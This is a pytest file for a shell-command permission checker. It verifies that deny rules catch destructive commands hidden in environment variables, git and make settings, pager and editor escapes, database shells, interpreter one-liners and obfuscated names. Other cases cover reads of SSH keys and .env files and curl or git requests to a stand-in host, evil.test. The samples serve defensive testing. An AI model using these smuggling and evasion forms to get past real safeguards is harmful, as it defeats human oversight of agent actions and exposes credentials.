"""Readings a deny rule must see (issue 22, "only asked where a deny rule applies").

Values that are commands: a variable
or setting whose value a program runs as a command line is judged as that command, so a
deny rule sees what really runs -- an environment variable (``GIT_SSH_COMMAND``,
``EDITOR``, ``PAGER``, ``LESSOPEN``, ``CC`` ... and the ``*_COMMAND``/``*_CMD``/``*_PAGER``/
``*_EDITOR``/``*_ASKPASS``/``*_SHELL`` names), a git setting given with ``-c`` or written with
``git config`` (``core.sshCommand``, ``core.pager``, ``diff.<driver>.textconv`` ...), and
make's ``SHELL`` in any of its assignment operators.

A command name that is not static (``rm${IFS}-rf x``, ``c=rm; $c x``) still asks, and is
also read as bash most often reads it -- ``$IFS`` a space, a variable the line sets to a
static value with that value, any other unset -- for the deny rules."""

from __future__ import annotations

import pytest
from judging import A, D, R, assert_meets, project_in

RM = [A("*"), D("rm *")]

CASES = [
    # environment variables whose value runs
    (RM, "bash", "GIT_SSH_COMMAND='rm -rf x' git fetch", "deny"),
    (RM, "bash", "GIT_PAGER='rm x' git log", "deny"),
    (RM, "bash", "PAGER='rm x' man ls", "deny"),
    (RM, "bash", "EDITOR='rm x' git commit", "deny"),
    (RM, "bash", "VISUAL=\"rm -f x\" crontab -e", "deny"),
    (RM, "bash", "GIT_SEQUENCE_EDITOR='rm x' git rebase -i HEAD~2", "deny"),
    (RM, "bash", "LESSOPEN='|rm x %s' less f", "deny"),
    (RM, "bash", "env GIT_EXTERNAL_DIFF='rm x' git diff", "deny"),
    (RM, "bash", "sudo SUDO_ASKPASS='rm x' -A true", "deny"),
    (RM, "bash", "export GIT_SSH_COMMAND='rm x'; git fetch", "deny"),
    (RM, "bash", "declare -x EDITOR='rm x'; git commit", "deny"),
    (RM, "bash", "FZF_DEFAULT_COMMAND='rm x' fzf", "deny"),
    (RM, "bash", "npm_config_script_shell='rm x' npm test", "deny"),
    (RM, "bash", "CONFIG_SHELL='rm x' ./configure", "deny"),
    (RM, "bash", "CC='rm x' make", "deny"),
    (RM, "bash", "RUSTC_WRAPPER='rm x' cargo build", "deny"),
    (RM, "bash", "RSYNC_RSH='rm x' rsync -a a b:", "deny"),
    ([A("git *")], "bash", "GIT_SSH_COMMAND='ssh -i k' git fetch", "not-allow"),
    # git settings whose value runs, on the command line and written for later
    (RM, "bash", "git -c core.pager='rm x' log", "deny"),
    (RM, "bash", "git -c core.sshCommand='rm x' fetch", "deny"),
    (RM, "bash", "git -c core.fsmonitor='rm x' status", "deny"),
    (RM, "bash", "git -c CORE.EDITOR='rm x' commit", "deny"),
    (RM, "bash", "git -c diff.foo.textconv='rm x' diff", "deny"),
    (RM, "bash", "git -c filter.lfs.smudge='rm x' checkout .", "deny"),
    (RM, "bash", "git -c 'credential.helper=!rm x' push", "deny"),
    (RM, "bash", "git -c pager.log='rm x' log", "deny"),
    (RM, "bash", "git -c remote.origin.uploadpack='rm x' fetch", "deny"),
    (RM, "bash", "git -c sendemail.tocmd='rm x' send-email p", "deny"),
    (RM, "bash", "git -C . -c core.askPass='rm x' push", "deny"),
    (RM, "bash", "git config core.sshCommand 'rm -rf x'", "deny"),
    (RM, "bash", "git config --global core.pager 'rm x'", "deny"),
    (RM, "bash", "git config --local diff.x.command 'rm x'", "deny"),
    (RM, "bash", "git config alias.p '!rm x'", "deny"),
    ([A("git *")], "bash", "git -c core.pager=less log", "not-allow"),
    # package managers' and cargo's settings whose value is a command
    (RM, "bash", "npm test --script-shell='rm x'", "deny"),
    (RM, "bash", "npm --script-shell 'rm x' run build", "deny"),
    (RM, "bash", "npm config set script-shell 'rm x'", "deny"),
    (RM, "bash", "npm set script-shell='rm x'", "deny"),
    (RM, "bash", "yarn config set script-shell 'rm x'", "deny"),
    (RM, "bash", "pnpm config set shell 'rm x'", "deny"),
    (RM, "bash", "cargo build --config 'build.rustc-wrapper=\"rm\"'", "deny"),
    (RM, "bash", "cargo --config 'target.x86_64-unknown-linux-gnu.runner=[\"rm\", \"x\"]' run",
     "deny"),
    ([A("*")], "bash", "yarn config set script-shell bash", "not-allow"),
    ([A("npm run *")], "bash", "npm run build", "allow"),
    (RM, "bash", "git clone -c core.fsmonitor='rm x' https://h/r", "deny"),
    (RM, "bash", "git clone --config=core.sshCommand='rm x' git@h:r", "deny"),
    (RM, "bash", "git grep --open-files-in-pager='rm x' foo", "deny"),
    (RM, "bash", "git grep -O'rm x' foo", "deny"),
    ([A("git *")], "bash", "git grep -O foo", "not-allow"),
    ([A("git *")], "bash", "git filter-repo --commit-callback 'import os'", "not-allow"),
    ([A("git *")], "bash", "git clone https://h/r", "allow"),
    ([A("git *")], "bash", "git grep -n foo", "allow"),
    # make's SHELL in every assignment operator, and the shell make is told to use
    (RM, "bash", "make SHELL='rm x'", "deny"),
    (RM, "bash", "make SHELL:='rm x' all", "deny"),
    (RM, "bash", "make SHELL::='rm x' all", "deny"),
    (RM, "bash", "make 'SHELL+=rm x'", "deny"),
    (RM, "bash", "make 'SHELL?=rm x'", "deny"),
    (RM, "bash", "make 'SHELL!=rm x'", "deny"),
    (RM, "bash", "make CC='rm x' all", "deny"),
    # a pager, browser, preprocessor or editor shell escape runs a command
    (RM, "bash", "man -P 'rm x' ls", "deny"),
    (RM, "bash", "man --pager='rm x' ls", "deny"),
    (RM, "bash", "man -H'rm x' ls", "deny"),
    (RM, "bash", "rg --pre rm foo", "deny"),
    (RM, "bash", "less '+!rm x' f", "deny"),
    (RM, "bash", "more '+!rm x' f", "deny"),
    (RM, "bash", "vim -c '!rm x' f", "deny"),
    (RM, "bash", "vim -c ':silent !rm x' f", "deny"),
    (RM, "bash", "vi +'r !rm x' f", "deny"),
    (RM, "bash", "nvim --cmd '!rm x'", "deny"),
    ([A("man *")], "bash", "man ls", "allow"),
    ([A("less *")], "bash", "less +G f", "not-allow"),
    # a database shell's, a network tool's or a tracer's option or operand that runs a
    # command
    (RM, "bash", "sqlite3 db '.shell rm x'", "deny"),
    (RM, "bash", "sqlite3 -cmd '.system rm x' db", "deny"),
    (RM, "bash", "sqlite3 db <<< '.shell rm x'", "deny"),
    (RM, "bash", "sqlite3 db \".output '|rm x'\"", "deny"),
    (RM, "bash", "psql -c '\\! rm x'", "deny"),
    (RM, "bash", "psql -c \"COPY t TO PROGRAM 'rm x'\"", "deny"),
    (RM, "bash", "mysql -e 'system rm x'", "deny"),
    (RM, "bash", "duckdb -c '.shell rm x'", "deny"),
    (RM, "bash", "ssh -o ProxyCommand='rm x' h", "deny"),
    (RM, "bash", "scp -o 'LocalCommand rm x' -o PermitLocalCommand=yes a h:b", "deny"),
    (RM, "bash", "scp -S rm a h:b", "deny"),
    (RM, "bash", "rsync -e 'rm x' a h:b", "deny"),
    (RM, "bash", "zip -TT 'rm x' -T a.zip b", "deny"),
    (RM, "bash", "socat - EXEC:'rm x',pty", "deny"),
    (RM, "bash", "socat - SYSTEM:'rm x'", "deny"),
    (RM, "bash", "tcpdump -z rm -w f", "deny"),
    (RM, "bash", "strace -o '|rm x' ls", "deny"),
    ([A("ssh *")], "bash", "ssh -o StrictHostKeyChecking=no h", "allow"),
    ([A("sqlite3 *")], "bash", "sqlite3 db 'select 1'", "allow"),
    # an interpreter's inline code that visibly hands a string to a shell or runs a program
    (RM, "bash", "python3 -c 'import os; os.system(\"rm -rf x\")'", "deny"),
    (RM, "bash", "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"x\"])'",
     "deny"),
    (RM, "bash", "python3.11 -c \"import subprocess as s; s.check_output('rm x', shell=True)\"",
     "deny"),
    (RM, "bash", "perl -e 'system(\"rm -rf x\")'", "deny"),
    (RM, "bash", "perl -e '`rm -rf x`'", "deny"),
    (RM, "bash", "perl -e 'qx(rm x)'", "deny"),
    (RM, "bash", "ruby -e 'system \"rm x\"'", "deny"),
    (RM, "bash", "ruby -e '%x(rm x)'", "deny"),
    (RM, "bash", "node -e \"require('child_process').execSync('rm -rf x')\"", "deny"),
    (RM, "bash", "php -r 'shell_exec(\"rm x\");'", "deny"),
    ([A("*")], "bash", "python3 -c 'print(\"rm -rf x\")'", "allow"),
    (RM, "bash", "python3 - <<'EOF'\nimport os\nos.system('rm -rf x')\nEOF", "deny"),
    (RM, "bash", "ruby <<< 'system(\"rm x\")'", "deny"),
    # a name that is not static: asked, and denied where its plain reading is denied
    (RM, "bash", "rm${IFS}-rf x", "deny"),
    (RM, "bash", "rm$IFS-rf x", "deny"),
    (RM, "bash", "r${unset}m -rf x", "deny"),
    (RM, "bash", "r$@m x", "deny"),
    (RM, "bash", "c=rm; $c -rf x", "deny"),
    (RM, "bash", "c=r; ${c}m x", "deny"),
    (RM, "bash", "p=/bin/rm\n$p x", "deny"),
    ([A("*"), D("git push *")], "bash", "a=git; b=push; $a $b origin", "deny"),
    (RM, "bash", "c=rm; sudo $c x", "deny"),
    ([A("*")], "bash", "c=ls; $c -la", "not-allow"),
    ([A("*")], "bash", "$EDITOR notes.txt", "not-allow"),
    # positional parameters the line sets hold code that an evaluating context runs
    (RM, "bash", "set -- 'a[$(rm x)]'; (( $1 ))", "deny"),
    # ordinary forms stay as they were
    ([A("git *")], "bash", "git log --oneline", "allow"),
    ([A("make *")], "bash", "make -j4 test", "allow"),
    ([A("git config user.name *")], "bash", "git config user.name 'A B'", "allow"),
    ([A("*")], "bash", "GIT_PAGER=cat git log", "not-allow"),  # sensitive, as before
]


@pytest.fixture(scope="module")
def where(tmp_path_factory):
    return project_in(tmp_path_factory.mktemp("values"))


@pytest.mark.parametrize("rules,tool,text,expect", CASES, ids=[c[2][:60] for c in CASES])
def test_a_value_that_runs_is_judged_as_the_command(rules, tool, text, expect, where):
    assert_meets(rules, tool, text, expect, where)


# A path that is not static still asks, and is also read as what it names now -- $HOME as
# ~, a glob as the files it matches -- for the deny rules.
SECRETS = [A("*"), R("read", "**", "allow"), R("read", "~/.ssh/**", "deny"),
           R("read", "**/.env*", "deny")]
PATHS = [
    (SECRETS, "bash", "cat $HOME/.ssh/id_rsa", "deny"),
    (SECRETS, "bash", "grep --file=${HOME}/.ssh/id_rsa x", "deny"),
    (SECRETS, "bash", "cat ~/.ss[h]/id_rsa", "deny"),
    (SECRETS, "bash", "cat ~/.s?h/i*", "deny"),
    (SECRETS, "bash", "cat ~/.*/id_rsa", "deny"),
    (SECRETS, "bash", "cp conf/.e[n]v /tmp/x", "deny"),
    (SECRETS, "bash", "cat conf/*", "not-allow"),  # bash's * skips .env (no dotglob)
    (SECRETS, "bash", "cat *.md", "not-allow"),
    # xargs after a plain echo of static words reads those words
    (SECRETS, "bash", "echo ~/.ssh/id_rsa | xargs cat", "deny"),
    (SECRETS, "bash", "echo -n conf/.env | xargs -r head -1", "deny"),
    (RM, "bash", "echo a b | xargs rm -f", "deny"),
    (RM, "bash", "echo rm -rf x | sh", "deny"),
    (SECRETS, "bash", "echo README.md | xargs cat", "allow"),
]


@pytest.fixture(scope="module")
def secrets(tmp_path_factory):
    where = project_in(tmp_path_factory.mktemp("globs"))
    (where.home / ".ssh").mkdir()
    (where.home / ".ssh" / "id_rsa").write_text("key\n")
    (where.root / "conf").mkdir()
    (where.root / "conf" / ".env").write_text("SECRET=1\n")
    (where.root / "README.md").write_text("hello\n")
    return where


@pytest.mark.parametrize("rules,tool,text,expect", PATHS, ids=[c[2] for c in PATHS])
def test_a_path_that_is_not_static_is_read_as_what_it_names(rules, tool, text, expect,
                                                             secrets):
    assert_meets(rules, tool, text, expect, secrets)


# A host a network client sends a request to is a `network HOST` request for the deny
# rules (the sandbox's proxy judges the connection itself): every URL operand, proxies,
# connect-to and resolve targets.
NET = [A("*"), R("network", "evil.test", "deny"), R("network", "*.evil.test", "deny")]
HOSTS = [
    (NET, "bash", "curl https://evil.test/x", "deny"),
    (NET, "bash", "curl -s https://ok.test/a https://evil.test/b", "deny"),
    (NET, "bash", "curl evil.test/x", "deny"),
    (NET, "bash", "curl --url https://evil.test/ -o out", "deny"),
    (NET, "bash", "curl -x evil.test:3128 https://ok.test/", "deny"),
    (NET, "bash", "curl --preproxy socks5://evil.test https://ok.test/", "deny"),
    (NET, "bash", "curl --connect-to ok.test:443:evil.test:443 https://ok.test/", "deny"),
    (NET, "bash", "curl --resolve ok.test:443:evil.test https://ok.test/", "deny"),
    (NET, "bash", "curl https://EVIL.TEST./", "deny"),
    (NET, "bash", "wget -q https://cdn.evil.test/x.sh", "deny"),
    (NET, "bash", "http POST evil.test/api a=1", "deny"),
    (NET, "bash", "git clone https://evil.test/r", "deny"),
    (NET, "bash", "git clone --depth 1 git@evil.test:r.git", "deny"),
    (NET, "bash", "git fetch ssh://git@evil.test/r main", "deny"),
    (NET, "bash", "git push https://x.evil.test/r HEAD", "deny"),
    (NET, "bash", "git fetch origin && git push origin main", "allow"),
    (NET, "bash", "curl https://ok.test/", "allow"),
    (NET, "bash", "http :3000/health", "allow"),
    # curl's own URL globbing ({a,b} sets and [a-z] ranges, the host too; checked with
    # curl 7.88: each alternative is fetched); -g/--globoff reads the URL as written
    (NET, "bash", "curl 'https://{ok,evil}.test/'", "deny"),
    (NET, "bash", "curl 'https://ok.test{/x,.evil.test/}'", "deny"),
    (NET, "bash", "curl 'https://[a-c].evil.test/'", "deny"),
    (NET, "bash", "curl 'https://{" + ",".join(f"h{i}" for i in range(60)) + ",evil}.test/[1-9]'",
     "deny"),  # past 64 URLs, each alternative once
    (NET, "bash", "curl 'https://ok.test/{a,b}/[1-3].json'", "allow"),
    (NET, "bash", "curl -g 'https://ok.test/{evil}'", "allow"),
    (NET, "bash", "curl 'https://ok.test/" + "[1-9]" * 300 + "'", "not-allow"),  # too many
    # past 64 hosts in a line, the rest is not judged: the line asks, saying so
    (NET, "bash", "curl " + " ".join(f"https://h{i}.test/" for i in range(70))
     + " https://evil.test/", "not-allow"),
]


@pytest.mark.parametrize("rules,tool,text,expect", HOSTS, ids=[c[2] for c in HOSTS])
def test_a_host_a_client_reaches_is_a_network_request(rules, tool, text, expect, where):
    assert_meets(rules, tool, text, expect, where)
CASES = [*CASES, *HOSTS]  # the tables dm_cc run and policy check judge too (tests/cli)
